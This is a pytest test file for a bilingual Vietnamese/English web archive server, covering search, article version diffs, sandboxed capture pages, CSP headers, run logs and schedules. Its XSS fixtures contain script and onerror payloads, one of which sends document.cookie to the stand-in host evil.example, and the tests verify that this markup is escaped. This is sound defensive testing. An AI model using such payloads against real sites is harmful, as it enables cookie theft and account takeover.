"""The pages of `luutru serve`: Vietnamese/English, the article page (versions, diff,
isolated capture), runs, schedules, and that archived markup never becomes ours.

The browser-level XSS test lives elsewhere; here we check what the server sends: escaped
text, the sandboxed iframe, and the capture route's CSP / nosniff headers. DOM ids the
e2e test relies on: #q, #results, .hit a, #versions, #diff, #capture-frame, #run-log.
"""

from __future__ import annotations

import re
import sqlite3
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from archive.store import Archive
from demo_portal import DemoPortal
from luutru.web.app import create_app
from luutru.web.pages import safe_highlight
from luutru.web.settings import CAPTURE_CSP, WebSettings
from tests.archive_builders import crawl_demo, plant_hostile_article

pytestmark = pytest.mark.slow

EVIL_TITLE = 'Tin bảo hiểm <script>alert("title")</script>'
EVIL_BODY = (
    'Bảo hiểm xã hội <img src=x onerror="alert(1)"> tỉnh.\n\n'
    "<script>document.location='http://evil.example/'+document.cookie</script>"
)
EVIL_PAGE = (
    b"<!DOCTYPE html><html><head><title>x</title>"
    b"<script>parent.document.body.innerHTML='pwned'</script></head>"
    b'<body><p>B\xe1\xba\xa3o hi\xe1\xbb\x83m</p><img src=x onerror="alert(2)"></body></html>'
)


def _plant_evil_article(data: Path) -> str:
    return plant_hostile_article(
        data,
        title=EVIL_TITLE,
        body=EVIL_BODY,
        author='<b onmouseover="alert(3)">Nguyễn Văn A</b>',
        page=EVIL_PAGE,
    )


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    data = tmp_path_factory.mktemp("web-pages")
    with DemoPortal(articles=40, port=0) as portal:
        crawl_demo(portal.base_url, data)
        portal.epoch = 1
        crawl_demo(portal.base_url, data, "--full")
    evil = _plant_evil_article(data)
    with Archive.open(data) as archive:
        articles = list(archive.articles())
        runs = archive.runs()
    return {
        "data": data,
        "evil": evil,
        "multi": next(a for a in articles if a["version_count"] >= 2),
        "runs": runs,
    }


@pytest.fixture(scope="module")
def client(world: dict) -> TestClient:
    return TestClient(create_app(WebSettings(data=str(world["data"]))))


def _assert_our_page(response: Any) -> None:
    """Every page of ours: HTML, a strict CSP, and no inline script at all."""
    assert response.headers["content-type"].startswith("text/html")
    csp = response.headers["content-security-policy"]
    assert "default-src 'self'" in csp and "unsafe-inline" not in csp
    assert response.headers["x-content-type-options"] == "nosniff"
    tags = _Tags()
    tags.feed(response.text)
    assert "script" not in tags.names
    assert not tags.handlers  # no on…= event-handler attribute on any element


class _Tags(HTMLParser):
    """Elements and event-handler attributes as a browser's parser would see them (escaped
    archived text stays text: ``&lt;b onmouseover=…`` is no attribute)."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.handlers: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.handlers += [(tag, name) for name, _ in attrs if name.startswith("on")]


# --------------------------------------------------------------------------- languages


@pytest.mark.parametrize("path", ["/", "/search?q=lao", "/runs", "/schedules"])
def test_pages_render_in_vietnamese_by_default_and_english_on_request(
    client: TestClient, path: str
) -> None:
    vi = client.get(path)
    assert vi.status_code == 200
    _assert_our_page(vi)
    assert '<html lang="vi">' in vi.text and "Tìm kiếm" in vi.text

    en = client.get(path, params={"lang": "en"})
    assert en.status_code == 200 and '<html lang="en">' in en.text
    assert "Search" in en.text and "Tìm kiếm" not in en.text.replace("Tiếng Việt", "")

    header = client.get(path, headers={"Accept-Language": "en-US,en;q=0.9"})
    assert '<html lang="en">' in header.text
    vi_header = client.get(path, headers={"Accept-Language": "fr, vi;q=0.5"})
    assert '<html lang="vi">' in vi_header.text


def test_explicit_language_sticks_to_our_links(client: TestClient) -> None:
    page = client.get("/runs", params={"lang": "en"}).text
    assert 'href="/search?lang=en"' in page


# --------------------------------------------------------------------------- search


def test_search_page_results_highlights_pagination_and_export(client: TestClient) -> None:
    r = client.get("/search", params={"q": "lao động"})
    assert r.status_code == 200
    assert 'id="q"' in r.text and 'value="lao động"' in r.text
    assert 'id="results"' in r.text and 'class="hit"' in r.text
    assert "<mark>" in r.text
    assert 'id="pager"' in r.text and "page=2" in r.text
    assert "/search/export?format=csv&amp;q=" in r.text
    assert "/search/export?format=jsonl&amp;q=" in r.text

    page2 = client.get("/search", params={"q": "lao động", "page": 2})
    assert 'start="21"' in page2.text

    csv_export = client.get("/search/export", params={"format": "csv", "q": "lao động"})
    assert csv_export.status_code == 200
    assert csv_export.headers["content-type"].startswith("text/csv")
    assert "attachment" in csv_export.headers["content-disposition"]
    lines = csv_export.text.strip().splitlines()
    total = client.get("/api/search", params={"q": "lao động"}).json()["total"]
    # UTF-8 with a BOM, so a spreadsheet reads Vietnamese right (archive/export.py)
    assert lines[0].startswith("\ufeffid,site,title") and len(lines) - 1 == total  # every hit

    jsonl = client.get("/search/export", params={"format": "jsonl", "q": "lao động"})
    assert len(jsonl.text.strip().splitlines()) == total


def test_search_page_tells_when_relevance_ranked_only_the_newest(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    import archive.search_plan as plan

    assert 'id="ranking-window"' not in client.get("/search", params={"q": "lao"}).text
    monkeypatch.setattr(plan, "RANK_CAP", 2)
    client.app.state.cache.clear()  # the archive did not change, the code did
    vi = client.get("/search", params={"q": "lao"}).text
    assert 'id="ranking-window"' in vi and "2 bản lưu mới nhất" in vi
    en = client.get("/search", params={"q": "lao", "lang": "en"}).text
    assert "ranks the 2 most recently archived first" in en
    by_date = client.get("/search", params={"q": "lao", "sort": "date"}).text
    assert 'id="ranking-window"' not in by_date


def test_search_page_shows_syntax_errors_as_a_message(client: TestClient) -> None:
    r = client.get("/search", params={"q": '"thương binh'})
    assert r.status_code == 400
    assert 'id="search-error"' in r.text
    assert client.get("/search/export", params={"q": "(lao"}).status_code == 400


def test_search_highlights_are_rebuilt_not_trusted() -> None:
    assert str(safe_highlight("a <mark>b</mark> &amp; c")) == "a <mark>b</mark> &amp; c"
    dirty = safe_highlight('<mark onclick="x()">b</mark><script>alert(1)</script><img onerror=y>')
    assert str(dirty) == "<mark>b</mark>alert(1)"
    assert str(safe_highlight("<mark>open")) == "<mark>open</mark>"


# --------------------------------------------------------------------------- articles


def test_article_page_versions_diff_aliases_and_capture_frame(
    client: TestClient, world: dict
) -> None:
    multi = world["multi"]
    r = client.get(f"/articles/{multi['id']}")
    assert r.status_code == 200
    _assert_our_page(r)
    html = r.text
    assert 'id="versions"' in html
    versions = re.findall(r'<li class="version[^"]*" data-version="(\d+)"', html)
    assert versions == [str(n) for n in range(1, multi["version_count"] + 1)]
    for n in range(1, multi["version_count"] + 1):
        assert f'href="/articles/{multi["id"]}/versions/{n}"' in html  # stable citation links
    assert 'id="diff"' in html and ("<del>" in html or "<ins>" in html)
    assert 'id="warc-pointer"' in html
    frame = re.search(r"<iframe[^>]*>", html).group(0)
    assert 'id="capture-frame"' in frame
    assert 'sandbox=""' in frame and "allow-" not in frame
    assert f'src="/captures/{multi["id"]}/{multi["version_count"]}"' in frame

    old = client.get(f"/articles/{multi['id']}/versions/1")
    assert old.status_code == 200 and 'id="old-version"' in old.text
    assert 'src="/captures/{}/1"'.format(multi["id"]) in old.text

    picked = client.get(f"/articles/{multi['id']}", params={"a": 2, "b": 1})
    assert picked.status_code == 200 and 'value="2" selected' in picked.text


def test_unknown_article_or_version_is_a_404_page(client: TestClient, world: dict) -> None:
    for path in ("/articles/nope:1", f"/articles/{world['multi']['id']}/versions/99",
                 "/captures/nope:1/1", "/runs/999999"):  # fmt: skip
        r = client.get(path)
        assert r.status_code == 404, path
        assert r.headers["content-type"].startswith("text/html")
        assert 'id="error"' in r.text


def test_capture_route_sends_the_strict_headers(client: TestClient, world: dict) -> None:
    multi = world["multi"]
    r = client.get(f"/captures/{multi['id']}/1")
    assert r.status_code == 200
    assert r.headers["content-security-policy"] == CAPTURE_CSP
    assert "default-src 'none'" in CAPTURE_CSP and CAPTURE_CSP.endswith("sandbox")
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["content-type"].startswith("text/html")
    assert multi["title"].split()[0] in r.content.decode("utf-8")


# --------------------------------------------------------------------------- hostile archive


def test_archived_scripts_are_escaped_on_our_pages(client: TestClient, world: dict) -> None:
    evil = world["evil"]
    r = client.get(f"/articles/{evil}")
    assert r.status_code == 200
    _assert_our_page(r)  # no <script, no on…= attribute anywhere
    assert "&lt;script&gt;alert(&#34;title&#34;)&lt;/script&gt;" in r.text
    assert "onerror=&#34;alert(1)&#34;" in r.text
    assert "&lt;b onmouseover=&#34;alert(3)&#34;&gt;" in r.text

    found = client.get("/search", params={"q": "bảo hiểm"})
    assert found.status_code == 200
    _assert_our_page(found)
    assert "evil1" in found.text
    api = client.get("/api/search", params={"q": "bảo hiểm", "limit": 200}).json()
    hit = next(h for h in api["hits"] if h["id"] == evil)
    assert "<script" not in hit["title_html"]


def test_archived_page_is_served_only_under_the_sandbox_csp(
    client: TestClient, world: dict
) -> None:
    r = client.get(f"/captures/{world['evil']}/1")
    assert r.status_code == 200
    assert r.content == EVIL_PAGE  # as archived: the CSP, not rewriting, is the defence
    assert r.headers["content-security-policy"] == CAPTURE_CSP
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["referrer-policy"] == "no-referrer"


# --------------------------------------------------------------------------- runs


def test_runs_dashboard_and_run_page(client: TestClient, world: dict) -> None:
    r = client.get("/runs")
    assert r.status_code == 200
    _assert_our_page(r)
    assert 'id="site-demo-aspnet"' in r.text and "<svg" in r.text and "<rect" in r.text
    assert 'id="readonly"' in r.text and 'action="/runs/now"' not in r.text
    one = client.get("/runs", params={"site": "demo-liferay"})
    assert 'id="site-demo-liferay"' in one.text and 'id="site-demo-aspnet"' not in one.text

    run = world["runs"][-1]
    page = client.get(f"/runs/{run['id']}")
    assert page.status_code == 200
    _assert_our_page(page)
    assert 'id="run-log"' in page.text and " INFO: " in page.text
    warn = client.get(f"/runs/{run['id']}", params={"level": "ERROR"})
    assert " INFO: " not in warn.text


def test_run_now_form_appears_with_a_token(world: dict) -> None:
    app = create_app(WebSettings(data=str(world["data"]), operator_token="t0ken"))
    with TestClient(app) as client:
        page = client.get("/runs").text
    assert 'action="/runs/now"' in page and 'name="token"' in page and 'id="readonly"' not in page


# --------------------------------------------------------------------------- schedules


def test_schedules_without_and_with_a_job_store(world: dict, tmp_path: Path) -> None:
    with TestClient(create_app(WebSettings(data=str(tmp_path)))) as client:
        none = client.get("/schedules")
        assert none.status_code == 200 and 'id="no-scheduler"' in none.text

        conn = sqlite3.connect(tmp_path / "scheduler.sqlite")
        conn.execute(
            "CREATE TABLE apscheduler_jobs (id VARCHAR(191) PRIMARY KEY, "
            "next_run_time FLOAT, job_state BLOB NOT NULL)"
        )
        conn.execute(
            "INSERT INTO apscheduler_jobs VALUES ('demo-aspnet', 1767225600.0, x'00')"
        )  # 2026-01-01T00:00:00Z = 07:00 in Vietnam
        conn.execute("INSERT INTO apscheduler_jobs VALUES ('demo-liferay', NULL, x'00')")
        conn.commit()
        conn.close()
        some = client.get("/schedules")
        assert 'id="no-scheduler"' not in some.text
        assert "2026-01-01T07:00:00+07:00" in some.text
        assert 'data-job="demo-liferay"' in some.text
        assert client.get("/schedules", params={"lang": "en"}).text.count("paused") == 1
